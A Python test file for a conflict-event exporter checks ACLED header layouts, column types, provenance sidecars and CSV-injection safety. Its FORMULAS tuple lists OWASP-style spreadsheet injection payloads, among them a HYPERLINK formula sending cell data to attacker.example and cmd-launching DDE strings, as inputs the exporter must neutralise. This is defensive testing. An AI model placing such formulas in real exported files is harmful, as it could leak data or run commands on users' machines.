"""Exports ACLED users can load, CSV cells a spreadsheet cannot run, provenance."""

from __future__ import annotations

import csv
import dataclasses
import json
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import pytest
from typer.testing import CliRunner

from tadmor.cli import app
from tadmor.errors import StoreError
from tadmor.store import CorrectionKind, CorrectionRequest, EventQuery, Store, export_events
from tadmor.store.export import COLUMN_NAMES, TYPES, csv_safe, provenance_of
from test_store import DOC_A, DOC_B, EV1, EV2, EV3, MENTION_A, make_event

# ACLED's headers, written out here from ACLED's documentation (not from the code under test)
CURRENT = [
    "event_id_cnty",
    "event_date",
    "year",
    "time_precision",
    "disorder_type",
    "event_type",
    "sub_event_type",
    "actor1",
    "assoc_actor_1",
    "inter1",
    "actor2",
    "assoc_actor_2",
    "inter2",
    "interaction",
    "civilian_targeting",
    "iso",
    "region",
    "country",
    "admin1",
    "admin2",
    "admin3",
    "location",
    "latitude",
    "longitude",
    "geo_precision",
    "source",
    "source_scale",
    "notes",
    "fatalities",
    "tags",
    "timestamp",
]
LEGACY = [
    "data_id",
    "iso",
    "event_id_cnty",
    "event_id_no_cnty",
    "event_date",
    "year",
    "time_precision",
    "event_type",
    "sub_event_type",
    "actor1",
    "assoc_actor_1",
    "inter1",
    "actor2",
    "assoc_actor_2",
    "inter2",
    "interaction",
    "region",
    "country",
    "admin1",
    "admin2",
    "admin3",
    "location",
    "latitude",
    "longitude",
    "geo_precision",
    "source",
    "source_scale",
    "notes",
    "fatalities",
    "timestamp",
    "iso3",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# what hostile inputs put into text fields (OWASP's examples of CSV injection)
FORMULAS = (
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def hostile_event() -> Any:
    return make_event(
        "ev_h",
        actor1=FORMULAS[0],
        assoc_actor_1=f"{FORMULAS[1]}; {FORMULAS[2]}",
        actor2=FORMULAS[3],
        location=FORMULAS[4],
        admin1=FORMULAS[5],
        notes=FORMULAS[1],
        source_names=(FORMULAS[0], "=1+2"),
        sources=("-doc",),
        flags=("@flag",),
        latitude=-33.5,
        longitude=-70.6,
    )


def read_csv(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("fmt,header", [("acled", CURRENT), ("acled-legacy", LEGACY)])
def test_acled_layouts_have_exactly_acleds_headers(
    tmp_path: Path, fmt: str, header: list[str]
) -> None:
    out = export_events([EV1, EV2, EV3], path=tmp_path / "e.csv", fmt=fmt)
    rows = read_csv(out)
    assert rows[0] == header and len(header) == 31
    assert all(len(r) == 31 for r in rows)


def test_acled_files_load_with_pandas_and_acleds_date_formats(tmp_path: Path) -> None:
    pd = pytest.importorskip("pandas")
    cur = export_events([EV1, EV2, EV3], path=tmp_path / "cur.csv", fmt="acled")
    old = export_events([EV1, EV2, EV3], path=tmp_path / "old.csv", fmt="acled-legacy")
    a = pd.read_csv(cur, parse_dates=["event_date"], date_format="%Y-%m-%d")
    b = pd.read_csv(old, parse_dates=["event_date"], date_format="%d %B %Y")
    assert list(a.columns) == CURRENT and list(b.columns) == LEGACY
    for df in (a, b):
        assert str(df["event_date"].dtype).startswith("datetime64")
        assert df["event_date"].iloc[0] == pd.Timestamp(2021, 3, 2)
        assert df["event_date"].iloc[1] == pd.Timestamp(2021, 3, 5)
        assert pd.isna(df["event_date"].iloc[2])  # undated
        assert df["iso"].tolist() == [760, 760, 422]
        assert df["fatalities"].dtype.kind == "i" and df["timestamp"].dtype.kind == "i"
        assert df["region"].tolist() == ["Middle East"] * 3
    assert "02 March 2021" in old.read_text(encoding="utf-8")
    assert b["iso3"].tolist() == ["SYR", "SYR", "LBN"]
    assert b["data_id"].dtype.kind == "i" and b["event_id_cnty"].tolist() == [
        "ev_1",
        "ev_2",
        "ev_3",
    ]
    assert a["disorder_type"].tolist() == ["Political violence"] * 3


def test_every_csv_cell_is_safe_in_a_spreadsheet(tmp_path: Path, any_store: Store) -> None:
    ev = hostile_event()
    for fmt in ("csv", "acled", "acled-legacy"):
        rows = read_csv(export_events([ev, EV1], path=tmp_path / f"{fmt}.csv", fmt=fmt))
        cells = [c for r in rows for c in r]
        assert "-33.5" in cells  # numbers stay numbers
        unsafe = [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)]
        assert unsafe == [], fmt
        assert f"'{FORMULAS[0]}" in cells  # neutralised, not dropped
    # the same through `tadmor events --format csv` on a store
    any_store.put_documents([DOC_A, DOC_B])
    any_store.replace_resolution(events=[ev, EV1], claims=[], periods=[])
    store_arg = getattr(any_store, "url", None) or any_store.path  # type: ignore[attr-defined]
    any_store.close()
    result = CliRunner().invoke(app, ["events", "--store", store_arg, "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(result.stdout.splitlines()))
    assert len(rows) == 3
    cells = [c for r in rows for c in r]
    assert [c for c in cells if c.startswith(TRIGGERS) and not _is_number(c)] == []


def test_csv_safe() -> None:
    assert csv_safe("=1+1") == "'=1+1" and csv_safe("\r=1") == "'\r=1"
    assert csv_safe("Kerrow") == "Kerrow" and csv_safe("") == "" and csv_safe("'=x") == "'=x"


def test_a_column_has_one_type_in_every_format(tmp_path: Path) -> None:
    events = [EV1, EV2, EV3]
    js = json.loads(export_events(events, path=tmp_path / "e.json", fmt="json").read_text())
    gj = json.loads(export_events(events, path=tmp_path / "e.geojson", fmt="geojson").read_text())
    pq = export_events(events, path=tmp_path / "e.parquet", fmt="parquet")
    rows = read_csv(export_events(events, path=tmp_path / "e.csv", fmt="csv"))
    conn = duckdb.connect(":memory:")
    described = conn.execute("DESCRIBE SELECT * FROM read_parquet(?)", [str(pq)]).fetchall()
    parquet_types = {r[0]: r[1] for r in described}
    conn.close()
    python = {"VARCHAR": str, "INTEGER": int, "BIGINT": int, "DOUBLE": float, "DATE": str}
    assert list(parquet_types) == list(COLUMN_NAMES) == rows[0]
    for name in COLUMN_NAMES:
        assert parquet_types[name] == TYPES[name], name
        for record in (*js["events"], *(f["properties"] for f in gj["features"])):
            value = record[name]
            assert value is None or type(value) is python[TYPES[name]], (name, value)
    for r in rows[1:]:
        cells = dict(zip(rows[0], r, strict=True))
        for name, cell in cells.items():
            if cell and TYPES[name] in ("INTEGER", "BIGINT"):
                assert int(cell) is not None
            if cell and TYPES[name] == "DATE":
                assert date.fromisoformat(cell)


def test_exports_flag_corrections_and_carry_provenance(tmp_path: Path, any_store: Store) -> None:
    any_store.put_documents([DOC_A, DOC_B])
    any_store.put_event_mentions([MENTION_A])
    e2 = dataclasses.replace(EV2, mentions=("em_b2",))
    any_store.replace_resolution(events=[EV1, e2, EV3], claims=[], periods=[])
    any_store.put_correction(
        CorrectionRequest(
            kind=CorrectionKind.FIELD, event_id="ev_1", author="ana", changes=(("fatalities", 7),)
        )
    )
    stored = any_store.query_events(EventQuery()).items
    prov = provenance_of(any_store)
    assert prov.input_documents == 2 and len(prov.input_hash) == 64 and prov.corrections == 1
    assert prov.resolved_at is not None
    for fmt in ("csv", "acled", "acled-legacy", "json", "geojson", "parquet"):
        out = export_events(stored, path=tmp_path / f"e.{fmt}", fmt=fmt, provenance=prov)
        side = json.loads((tmp_path / f"e.{fmt}.provenance.json").read_text())
        assert side["corrected_events"] == ["ev_1"] and side["input_documents"] == 2
        assert side["tadmor_version"] and side["run_time_utc"].endswith("Z")
        if fmt == "acled":
            r = {row[0]: row for row in read_csv(out)[1:]}
            assert r["ev_1"][CURRENT.index("tags")] == "tadmor=analyst corrected"
            assert r["ev_1"][CURRENT.index("fatalities")] == "7"
            assert int(r["ev_1"][CURRENT.index("timestamp")]) > 1_700_000_000
        if fmt == "csv":
            r = {row[0]: dict(zip(COLUMN_NAMES, row, strict=True)) for row in read_csv(out)[1:]}
            assert "corrected" in r["ev_1"]["flags"].split(";") and r["ev_1"]["corrections"] == "1"
            assert r["ev_2"]["corrections"] == "0"
        if fmt == "parquet":
            conn = duckdb.connect(":memory:")
            meta = conn.execute(
                "SELECT value FROM parquet_kv_metadata(?) WHERE key = 'tadmor_provenance'",
                [str(out)],
            ).fetchall()
            conn.close()
            assert json.loads(meta[0][0])["corrected_events"] == ["ev_1"]
    with pytest.raises(StoreError) as err:
        export_events(stored, path=tmp_path / "x", fmt="xlsx")
    assert err.value.code == "E309" and "acled-legacy" in err.value.message


def test_source_is_the_publishers_not_file_paths(tmp_path: Path, any_store: Store) -> None:
    text_c = "Residents said the Lantern Brigade shelled the depot again on Saturday."
    doc_c = dataclasses.replace(
        DOC_B, doc_id="doc_c", text=text_c, source=None, url="https://www.valley-news.example/a"
    )
    doc_d = dataclasses.replace(DOC_B, doc_id="doc_d", text=text_c, source=None, url=None)
    any_store.put_documents([DOC_A, doc_c, doc_d])
    ev = make_event(
        "ev_s",
        sources=(DOC_A.doc_id, "doc_c", "doc_d"),
        source_names=("The Daily Lantern", "inbox/reports/d.txt", "Reuters"),
    )
    pubs = any_store.publishers()
    assert pubs == {DOC_A.doc_id: "The Daily Lantern", "doc_c": "valley-news.example", "doc_d": ""}
    out = export_events([ev], path=tmp_path / "a.csv", fmt="acled", publishers=pubs)
    r = dict(zip(CURRENT, read_csv(out)[1], strict=True))
    assert r["source"] == "The Daily Lantern; valley-news.example"
    # without the documents: the outlet names, file paths left out; Reuters' reach is known
    out = export_events([ev], path=tmp_path / "b.csv", fmt="acled")
    r = dict(zip(CURRENT, read_csv(out)[1], strict=True))
    assert r["source"] == "The Daily Lantern; Reuters" and r["source_scale"] == "International"
